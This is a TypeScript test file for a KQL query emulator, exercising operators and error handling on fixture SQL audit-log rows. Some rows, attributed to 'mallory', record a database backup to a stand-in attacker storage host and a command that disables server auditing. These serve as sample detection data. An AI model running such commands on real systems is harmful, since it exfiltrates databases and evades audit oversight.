import { describe, it } from "node:test";
import assert from "node:assert/strict";
import { executeQuery } from "../../emulator/kusto/execute.js";
import { KqlError } from "../../emulator/kusto/lexer.js";
import type { Row } from "../../emulator/kusto/ast.js";
import { TABLE_COLUMNS } from "../../emulator/kusto/tables.js";
import { checkKql } from "../support/kusto-parser.js";

// Every query these tests run is also given to Microsoft's parser with the same table (its declared columns
// plus the rows' `n`): what the emulator answers is valid KQL, what it refuses as a misspelling Microsoft refuses too.
const schema = { AzureDiagnostics: { ...Object.fromEntries(TABLE_COLUMNS.AzureDiagnostics!.map((c) => [c.name, c.type])), n: "long" } };

const NOW = new Date("2026-11-24T12:00:00Z");
const rows: Row[] = [
  { TimeGenerated: new Date("2026-11-24T11:50:00Z"), Category: "SQLSecurityAuditEvents", action_id_s: "BA", statement_s: "BACKUP DATABASE [sales] TO URL = N'https://evil.blob.core.windows.net/c/s.bak' WITH COPY_ONLY", server_principal_name_s: "mallory", _ResourceId: "/subscriptions/s/resourcegroups/rg/providers/microsoft.sql/managedinstances/mi-1", n: 3 },
  { TimeGenerated: new Date("2026-11-24T11:00:00Z"), Category: "SQLSecurityAuditEvents", action_id_s: "RS", statement_s: "RESTORE DATABASE [hr] FROM URL = 'https://corp.blob.core.windows.net/c/h.bak'", server_principal_name_s: "dba", _ResourceId: "/subscriptions/s/resourcegroups/rg/providers/microsoft.sql/managedinstances/mi-1", n: 5 },
  { TimeGenerated: new Date("2026-11-23T09:00:00Z"), Category: "SQLSecurityAuditEvents", action_id_s: "AL", statement_s: "ALTER SERVER AUDIT [A] WITH (STATE = OFF)", server_principal_name_s: "mallory", _ResourceId: "/subscriptions/s/resourcegroups/rg/providers/microsoft.sql/managedinstances/mi-2", n: 7 },
  { TimeGenerated: new Date("2026-11-24T08:00:00Z"), Category: "Errors", action_id_s: "", statement_s: "", server_principal_name_s: "", _ResourceId: "/x", n: 1 },
];
const tables = new Map([["AzureDiagnostics", rows]]);
const q = (text: string) => executeQuery(text, tables, NOW);
const col = (text: string, name: string) => q(text).rows.map((r) => r[name]);

describe("KQL operators", () => {
  const cases: Array<[string, string, unknown[]]> = [
    ["where ==", `AzureDiagnostics | where action_id_s == "BA" | project action_id_s`, ["BA"]],
    ["== is case-sensitive", `AzureDiagnostics | where action_id_s == "ba" | project action_id_s`, []],
    ["=~ is not", `AzureDiagnostics | where action_id_s =~ "ba" | project action_id_s`, ["BA"]],
    ["!=", `AzureDiagnostics | where Category != "Errors" | count`, [3]],
    ["!~", `AzureDiagnostics | where Category !~ "errors" | count`, [3]],
    ["contains (case-insensitive)", `AzureDiagnostics | where statement_s contains "copy_only" | project action_id_s`, ["BA"]],
    ["!contains", `AzureDiagnostics | where statement_s !contains "COPY_ONLY" and Category == "SQLSecurityAuditEvents" | count`, [2]],
    ["contains_cs", `AzureDiagnostics | where statement_s contains_cs "copy_only" | count`, [0]],
    ["has (term)", `AzureDiagnostics | where statement_s has "RESTORE" | project action_id_s`, ["RS"]],
    ["has is a term match, not a substring", `AzureDiagnostics | where statement_s has "RESTOR" | count`, [0]],
    ["!has", `AzureDiagnostics | where statement_s !has "DATABASE" | count`, [2]],
    ["startswith / endswith", `AzureDiagnostics | where statement_s startswith "backup" and statement_s endswith "copy_only" | count`, [1]],
    ["in", `AzureDiagnostics | where action_id_s in ("BA", "RS") | count`, [2]],
    ["!in", `AzureDiagnostics | where action_id_s !in ("BA", "RS") | count`, [2]],
    ["in~", `AzureDiagnostics | where action_id_s in~ ("ba", "rs") | count`, [2]],
    ["between datetimes", `AzureDiagnostics | where TimeGenerated between (datetime(2026-11-24T10:00:00Z) .. datetime(2026-11-24T12:00:00Z)) | count`, [2]],
    ["ago()", `AzureDiagnostics | where TimeGenerated > ago(1h) | project action_id_s`, ["BA"]],
    ["and / or / not()", `AzureDiagnostics | where (action_id_s == "BA" or action_id_s == "AL") and not(server_principal_name_s == "dba") | count`, [2]],
    ["< <= > >= on numbers", `AzureDiagnostics | where n > 1 and n <= 5 | count`, [2]],
    ["extend", `AzureDiagnostics | extend who = toupper(server_principal_name_s) | where action_id_s == "RS" | project who`, ["DBA"]],
    ["order by asc", `AzureDiagnostics | order by n asc | project n`, [1, 3, 5, 7]],
    ["sort by defaults to desc", `AzureDiagnostics | sort by n | project n`, [7, 5, 3, 1]],
    ["take", `AzureDiagnostics | order by n asc | take 2 | project n`, [1, 3]],
    ["limit", `AzureDiagnostics | limit 1 | count`, [1]],
    ["top", `AzureDiagnostics | top 1 by TimeGenerated | project action_id_s`, ["BA"]],
    ["isnotempty", `AzureDiagnostics | where isnotempty(action_id_s) | count`, [3]],
  ];
  for (const [name, text, expected] of cases) {
    it(name, () => {
      assert.deepEqual(checkKql(text, schema).errors, [], "valid KQL for Microsoft's parser");
      const result = q(text);
      const column = result.columns.at(-1)!.name;
      assert.deepEqual(result.rows.map((r) => r[column]), expected);
    });
  }

  it("summarize count() by, max(), arg_max(), dcount()", () => {
    const result = q(`AzureDiagnostics | where Category == "SQLSecurityAuditEvents" | summarize events = count(), last = max(TimeGenerated), people = dcount(server_principal_name_s) by _ResourceId | order by _ResourceId asc`);
    assert.deepEqual(result.columns.map((c) => `${c.name}:${c.type}`), ["_ResourceId:string", "events:long", "last:datetime", "people:long"]);
    assert.deepEqual(result.rows.map((r) => r.events), [2, 1]);
    assert.deepEqual((result.rows[0]!.last as Date).toISOString(), "2026-11-24T11:50:00.000Z");
    const latest = q(`AzureDiagnostics | summarize arg_max(TimeGenerated, action_id_s) by Category | order by Category asc`);
    assert.deepEqual(latest.rows.map((r) => r.action_id_s), ["", "BA"]);
  });

  it("summarize without rows still answers one row for count()", () => {
    assert.deepEqual(col(`AzureDiagnostics | where n > 100 | summarize c = count()`, "c"), [0]);
  });

  it("project keeps only the named columns, with renames", () => {
    const result = q(`AzureDiagnostics | where n == 3 | project who = server_principal_name_s, n`);
    assert.deepEqual(result.columns.map((c) => c.name), ["who", "n"]);
    assert.deepEqual(result.rows, [{ who: "mallory", n: 3 }]);
  });

  it("project-away drops columns", () => {
    const result = q(`AzureDiagnostics | take 1 | project-away statement_s, n`);
    assert.ok(!result.columns.some((c) => c.name === "statement_s" || c.name === "n"));
  });

  it("an empty result keeps the table's declared columns", () => {
    const result = executeQuery(`AzureDiagnostics | where Category == "none"`, new Map(), NOW);
    assert.ok(result.columns.some((c) => c.name === "statement_s" && c.type === "string"));
    assert.equal(result.rows.length, 0);
  });
});

describe("errors instead of wrong answers", () => {
  // The last field says whether Microsoft's parser refuses the query too (true) or the emulator only lacks it (false).
  const refused: Array<[string, string, "SyntaxError" | "SemanticError", boolean]> = [
    ["an unsupported operator", `AzureDiagnostics | mv-expand x`, "SyntaxError", true],
    ["an unknown tabular operator", `AzureDiagnostics | frobnicate`, "SyntaxError", true],
    ["a function the emulator lacks", `AzureDiagnostics | where hash_sha256(statement_s) == "x"`, "SemanticError", false],
    ["an unknown column", `AzureDiagnostics | where no_such_column == "x"`, "SemanticError", true],
    ["an unknown table", `NoSuchTable | take 1`, "SemanticError", true],
    ["a syntax error", `AzureDiagnostics | where (action_id_s == "BA"`, "SyntaxError", true],
    ["an unterminated string", `AzureDiagnostics | where action_id_s == "BA`, "SyntaxError", true],
    ["let statements", `let x = 1; AzureDiagnostics`, "SemanticError", false],
    ["an aggregation the emulator lacks", `AzureDiagnostics | summarize percentile(n, 50)`, "SemanticError", false],
  ];
  for (const [name, text, code, microsoftRefuses] of refused) {
    it(name, () => {
      assert.throws(() => q(text), (e: unknown) => e instanceof KqlError && e.code === code);
      assert.equal(checkKql(text, schema).errors.length > 0, microsoftRefuses, "Microsoft's parser");
    });
  }
});
